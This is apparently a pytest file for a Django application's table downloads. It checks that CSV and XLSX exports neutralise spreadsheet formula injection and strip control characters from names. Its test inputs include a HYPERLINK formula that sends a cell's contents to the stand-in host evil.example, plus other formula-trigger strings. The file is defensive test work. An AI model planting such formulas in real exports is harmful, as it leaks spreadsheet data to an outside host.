"""Downloads never hand a spreadsheet a formula that a user typed (CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from dx_platform.core.downloads import table_response
from tests.coordination.conftest import make_initiative, make_kpi

TYPED = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+81-3-1234", "@SUM(A1)", "-2+3", "\tx"]
HEADER = ["text", "number"]


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_puts_a_quote_before_text_a_spreadsheet_would_run():
    response = table_response(header=HEADER, rows=[[text, 1.5] for text in TYPED], filename="t", fmt="csv")
    cells = [row[0] for row in csv_rows(response)[1:]]
    assert cells == ["'" + text for text in TYPED]


@pytest.mark.parametrize("fmt", ["csv", "csv-sjis"])
def test_csv_keeps_numbers_and_plain_text_as_they_are(fmt):
    rows = [["-12.5", -3.25], ["オンライン申請", 7], ["", None]]
    response = table_response(header=HEADER, rows=rows, filename="t", fmt=fmt)
    text = response.content.decode("utf-8-sig" if fmt == "csv" else "cp932")
    assert list(csv.reader(io.StringIO(text)))[1:] == [["-12.5", "-3.25"], ["オンライン申請", "7"], ["", ""]]


def test_xlsx_stores_typed_text_as_text_never_as_a_formula():
    rows = [[text, 2.5] for text in TYPED]
    response = table_response(header=HEADER, rows=rows, filename="t", fmt="xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [(row[0], row[1]) for row in sheet.iter_rows(min_row=2)]
    assert [text.value for text, _ in cells] == TYPED
    assert {text.data_type for text, _ in cells} == {"s"}
    assert {number.value for _, number in cells} == {2.5}


@pytest.mark.django_db
@pytest.mark.parametrize("what", ["kpis", "roadmaps"])
def test_a_name_with_a_control_character_still_downloads_as_xlsx_without_it(client, region, people, what):
    """A name pasted from another system may carry a form feed or a vertical tab: the download drops it."""
    town = region["home"]["town"].municipality
    if what == "kpis":
        make_kpi(town, name="オンライン\x0c申請率")
    else:
        make_initiative(town, title="書かない\x0b窓口")
    client.force_login(people["viewer"])
    response = client.get(f"/assessments/{town.code}/{what}/?format=xlsx")
    assert response.status_code == 200
    cells = {cell.value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row}
    assert ("オンライン申請率" if what == "kpis" else "書かない窓口") in cells
